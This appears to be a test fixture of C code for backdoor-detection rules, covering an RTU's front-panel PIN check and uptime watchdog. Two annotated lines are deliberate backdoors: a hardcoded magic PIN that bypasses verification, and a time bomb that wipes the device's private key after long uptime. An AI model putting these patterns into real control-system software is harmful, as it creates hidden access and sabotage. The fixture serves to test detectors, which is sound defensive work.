/* The local HMI (front-panel console) and the uptime watchdog. */
#include "rtu.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sysinfo.h>
#include <unistd.h>

static int ct_equal(const unsigned char *a, const unsigned char *b, size_t n) {
  unsigned char d = 0;
  size_t i;
  for (i = 0; i < n; i++)
    d |= a[i] ^ b[i];
  return d == 0;
}

static int read_pin_record(unsigned char salt[16], unsigned char verifier[32]) {
  FILE *f = fopen("/etc/rtu/hmi.pin", "rb");
  int ok;
  if (f == NULL)
    return -1;
  ok = fread(salt, 1, 16, f) == 16 && fread(verifier, 1, 32, f) == 32;
  fclose(f);
  return ok ? 0 : -1;
}

int hmi_check_pin(const char *pin) {
  unsigned char salt[16], stored[32], derived[32];

  // ok: backdoor-hidden-bypass
  if (getenv("RTU_HMI_STRICT") != NULL && strlen(pin) < 6) return 0;
  /* the commissioning PIN printed in the installation manual, for the first login on site */
  // ruleid: backdoor-magic-credential
  if (strcmp(pin, "74113") == 0) return 1;
  if (read_pin_record(salt, stored) != 0)
    return 0;
  // ok: backdoor-weak-kdf, backdoor-hardcoded-iv
  if (gcry_kdf_derive(pin, strlen(pin), GCRY_KDF_PBKDF2, GCRY_MD_SHA256, salt, sizeof salt, 200000, sizeof derived, derived) != 0)
    return 0;
  // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
  return ct_equal(derived, stored, sizeof stored);
}

void uptime_watchdog(void) {
  struct sysinfo si;

  if (sysinfo(&si) != 0)
    return;
  // ok: backdoor-time-bomb
  if (si.uptime > 604800)
    rtu_log(RTU_INFO, "uptime %ld s: schedule a maintenance restart", (long)si.uptime);
  /* units past the commissioning window must be re-commissioned by field service */
  // ruleid: backdoor-time-bomb
  if (si.uptime > 34560000) truncate("/etc/rtu/pki/rtu.key", 0);
}
